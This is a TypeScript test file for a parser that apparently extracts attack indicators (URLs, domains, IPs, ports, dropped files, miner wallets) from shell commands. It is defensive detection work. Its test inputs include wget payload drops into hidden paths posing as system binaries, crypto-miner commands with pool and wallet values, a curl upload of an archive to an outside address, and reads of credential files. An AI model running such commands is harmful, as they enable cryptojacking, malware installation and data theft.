import { describe, expect, test } from 'vitest';
import { commandTraces, otherEnds } from './command-traces.ts';

const told = (command: string): readonly string[] =>
  commandTraces(command).map(({ type, value }) => `${type} ${value}`);

describe('a command names', () => {
  test.each<[string, string, readonly string[]]>([
    [
      'what was fetched, and where to',
      '/usr/bin/wget -q https://files.example.net/raw/x -O /tmp/.systemd/systemd-update',
      ['url https://files.example.net/raw/x', 'file /tmp/.systemd/systemd-update'],
    ],
    [
      'a pool, by name and port',
      './x -o stratum+tcp://Pool.example.net:3333 --donate-level 1',
      ['domain pool.example.net', 'port 3333'],
    ],
    [
      'a pool without a scheme',
      'x -o Pool.example.net:3333 -u w --url=203.0.113.9:4444/a -P mine.internal:1',
      ['domain pool.example.net', 'port 3333', 'ip 203.0.113.9', 'port 4444'],
    ],
    ['a file for output', 'sort -o out.txt:1a in.txt; gcc -o a.out', []],
    ['a pool by its address', 'x -o stratum+ssl://203.0.113.9:443', ['ip 203.0.113.9', 'port 443']],
    [
      'a link without a scheme',
      'sudo /usr/bin/wget -q -O /tmp/x paste.example.net/raw/xyz',
      ['url http://paste.example.net/raw/xyz', 'file /tmp/x'],
    ],
    ['a file beside a tool', 'wget https://example.net/a -O out/b.c', ['url https://example.net/a']],
    ['a link once', 'curl http://203.0.113.9/a || wget http://203.0.113.9/a', ['url http://203.0.113.9/a']],
    [
      'a link without what it carries',
      'curl https://u:secret@example.net/a?token=secret',
      ['url https://example.net/a'],
    ],
    [
      'hidden files',
      'chmod +x /usr/lib/.cache-x/kworker; /dev/shm/a',
      ['file /usr/lib/.cache-x/kworker', 'file /dev/shm/a'],
    ],
    ['ordinary files', 'cat /home/alice/.ssh/authorized_keys /etc/passwd /home/alice/.aws/credentials', []],
    ['its own network', 'curl http://build.internal/x https://repo.corp/y http://localhost:8080/z', []],
    ['text that only looks like it', 'echo a://b http:// ../../tmp/x key=/etc/tmpfiles.d/x.conf', []],
    ['nothing', 'apt update', []],
  ])('%s', (_, command, expected) => expect(told(command)).toEqual(expected));

  test('and time to read it grows with its length only', () => {
    const before = performance.now();
    commandTraces('/a/.'.repeat(50_000));
    commandTraces(`/tmp/${'x/'.repeat(50_000)}`);
    commandTraces('a://'.repeat(50_000));
    commandTraces(` -o ${'a.'.repeat(50_000)}`);
    commandTraces(' -o a.b'.repeat(30_000));
    commandTraces(' wget a.b'.repeat(30_000));
    commandTraces(`wget ${'a.'.repeat(50_000)}`);
    expect(performance.now() - before).toBeLessThan(2_000);
  });
});

describe('the wallet that a miner is told', () => {
  const monero = `4${'A'.repeat(94)}`;
  const ether = `0x${'a1'.repeat(20)}`;
  test.each<[string, string, readonly string[]]>([
    ['of Monero, before the name of a worker', `x -o 192.0.2.9:3333 -u ${monero}.w1 -p x`, [monero]],
    ['of Monero, integrated', `x --user=${monero}${'B'.repeat(11)}`, [`${monero}${'B'.repeat(11)}`]],
    ['of Ethereum, as a user', `t-rex -a ethash -u ${ether}.rig`, [ether]],
    ['of Ethereum, behind its coin', `x -u ETH:${ether}`, [ether]],
    ['but no digest', `git show 0x${'a1'.repeat(20)} ${'A'.repeat(95)}`, []],
  ])('is found %s', (_, command, expected) => {
    const wallets = commandTraces(command).filter(({ type }) => type === 'wallet');
    expect(wallets.map(({ value }) => value)).toEqual(expected);
  });
});

describe('the other ends of a command', () => {
  test.each<[string, string, readonly string[]]>([
    ['by name', 'wget -q https://Paste.example.net/raw/xyz -O /tmp/x', ['domain paste.example.net']],
    ['by address and port', 'curl -s -T /tmp/b.tar http://203.0.113.89:8080/u', ['ip 203.0.113.89', 'port 8080']],
    ['without a scheme', 'wget -q files.example.net/x', ['domain files.example.net']],
    ['none of its own network', 'curl http://10.0.0.5:8080/x http://build.internal/y', []],
    ['none that a miner speaks to', 'x -o stratum+tcp://pool.example.net:3333', []],
  ])('are told %s', (_, command, expected) => {
    expect(otherEnds(command).map(({ type, value }) => `${type} ${value}`)).toEqual(expected);
  });
});
